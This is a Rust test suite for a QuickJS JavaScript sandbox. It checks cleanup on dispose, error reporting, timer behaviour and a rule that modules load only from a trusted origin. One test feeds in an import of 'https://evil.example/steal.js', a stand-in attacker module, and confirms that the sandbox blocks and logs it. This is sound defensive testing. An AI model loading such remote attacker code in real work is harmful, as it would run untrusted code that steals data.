use std::cell::Cell;
use std::rc::Rc;

use anyhow::anyhow;
use quickjs_sandbox::js::loader::{ModuleFetcher, TrustedOriginLoader, DEFAULT_MODULE_ORIGIN};
use quickjs_sandbox::{
    HostDocument, HostEvent, Sandbox, SandboxError, SandboxOptions, ViolationKind, ViolationLog,
};
use tokio::time::Duration;
use url::Url;

/// Serves a fixed set of modules under the default origin and counts fetches.
struct FixtureFetcher {
    fetches: Rc<Cell<usize>>,
}

impl ModuleFetcher for FixtureFetcher {
    fn fetch(&self, url: &Url) -> anyhow::Result<String> {
        self.fetches.set(self.fetches.get() + 1);
        match url.path() {
            "/greeting.js" => Ok("export const greeting = 'hello';".to_string()),
            "/nested/index.js" => Ok("export { greeting as text } from '../greeting.js';".to_string()),
            other => Err(anyhow!("no fixture module at {other}")),
        }
    }
}

fn options_with(fetches: &Rc<Cell<usize>>, log: &ViolationLog) -> SandboxOptions {
    let loader = TrustedOriginLoader::new(
        Url::parse(DEFAULT_MODULE_ORIGIN).unwrap(),
        Box::new(FixtureFetcher {
            fetches: Rc::clone(fetches),
        }),
        log.clone(),
    );
    SandboxOptions::default().with_loader(Rc::new(loader))
}

fn options() -> SandboxOptions {
    options_with(&Rc::new(Cell::new(0)), &ViolationLog::new())
}

#[tokio::test]
async fn dispose_is_idempotent_and_releases_everything() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let mut sandbox = Sandbox::create(
        document.clone(),
        container,
        r#"
        const root = createSandboxRootDomElement();
        const button = document.createElement('button');
        root.appendChild(button);
        button.addEventListener('click', () => {});
        setTimeout(() => {}, 60_000);
        setInterval(() => {}, 60_000);
        "#,
        options(),
    )
    .expect("sandbox");

    assert_eq!(sandbox.listener_count(), 1);
    assert_eq!(sandbox.pending_timers(), 2);
    assert!(sandbox.live_handles() > 0);
    assert_eq!(document.borrow().children(container).unwrap().len(), 1);

    sandbox.dispose();
    sandbox.dispose();

    assert!(sandbox.is_disposed());
    assert_eq!(sandbox.live_handles(), 0);
    assert_eq!(sandbox.tracked_node_count(), 0);
    assert_eq!(sandbox.pending_timers(), 0);
    assert!(document.borrow().children(container).unwrap().is_empty());
    assert!(matches!(
        sandbox.eval_script::<()>("1", "late.js"),
        Err(SandboxError::Disposed)
    ));
    assert!(matches!(
        sandbox.dispatch_event(sandbox.root_node(), &HostEvent::new("click")),
        Err(SandboxError::Disposed)
    ));
    assert_eq!(sandbox.pump(), 0);
}

#[tokio::test]
async fn failing_source_is_reported_and_unmounted() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let result = Sandbox::create(
        document.clone(),
        container,
        "createSandboxRootDomElement().textContent = 'partial'; throw new Error('boom');",
        options(),
    );

    match result {
        Err(SandboxError::Evaluation(message)) => assert!(message.contains("boom"), "{message}"),
        Err(other) => panic!("unexpected error: {other}"),
        Ok(_) => panic!("source should have failed"),
    }
    assert!(document.borrow().children(container).unwrap().is_empty());
}

#[tokio::test]
async fn syntax_errors_are_evaluation_failures() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let result = Sandbox::create(document, container, "const = ;", options());
    assert!(matches!(result, Err(SandboxError::Evaluation(_))));
}

#[tokio::test]
async fn imports_resolve_inside_trusted_origin_only() {
    let fetches = Rc::new(Cell::new(0));
    let log = ViolationLog::new();
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let sandbox = Sandbox::create(
        document.clone(),
        container,
        r#"
        import { text } from 'nested/index.js';
        import { greeting } from './greeting.js';
        createSandboxRootDomElement().textContent = text + '/' + greeting;
        "#,
        options_with(&fetches, &log),
    )
    .expect("sandbox");

    assert_eq!(sandbox.inner_html().unwrap(), "<style></style><div>hello/hello</div>");
    // greeting.js is fetched once and served from the cache afterwards.
    assert_eq!(fetches.get(), 2);
    drop(sandbox);

    let result = Sandbox::create(
        document.clone(),
        container,
        "import 'https://evil.example/steal.js';",
        options_with(&fetches, &log),
    );
    assert!(result.is_err());
    assert_eq!(fetches.get(), 2);
    assert_eq!(log.count_of(ViolationKind::Import), 1);
    assert!(document.borrow().children(container).unwrap().is_empty());
}

#[tokio::test]
async fn timers_fire_while_running() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let sandbox = Sandbox::create(
        document,
        container,
        r#"
        const root = createSandboxRootDomElement();
        globalThis.ticks = 0;
        setTimeout(() => { root.textContent = 'late'; }, 10);
        const id = setInterval(() => {
            ticks += 1;
            if (ticks === 3) clearInterval(id);
        }, 5);
        setTimeout(() => { throw new Error('ignored'); }, 1);
        "#,
        options(),
    )
    .expect("sandbox");

    assert_eq!(sandbox.pending_timers(), 3);
    let ran = sandbox.run_for(Duration::from_millis(200)).await.unwrap();
    assert_eq!(ran, 5);
    assert_eq!(sandbox.eval_script::<i32>("ticks", "ticks.js").unwrap(), 3);
    assert_eq!(sandbox.inner_html().unwrap(), "<style></style><div>late</div>");
    assert_eq!(sandbox.pending_timers(), 0);
}

#[tokio::test]
async fn cleared_timeouts_never_fire() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let sandbox = Sandbox::create(
        document,
        container,
        r#"
        globalThis.fired = false;
        const id = setTimeout(() => { fired = true; }, 5);
        clearTimeout(id);
        "#,
        options(),
    )
    .expect("sandbox");

    assert_eq!(sandbox.pending_timers(), 0);
    sandbox.run_for(Duration::from_millis(30)).await.unwrap();
    assert!(!sandbox.eval_script::<bool>("fired", "fired.js").unwrap());
}

#[test]
fn creation_requires_a_tokio_runtime() {
    let document = HostDocument::shared();
    let container = document.borrow().body();
    let result = Sandbox::create(document, container, "", SandboxOptions::default());
    assert!(matches!(result, Err(SandboxError::NoAsyncRuntime)));
}
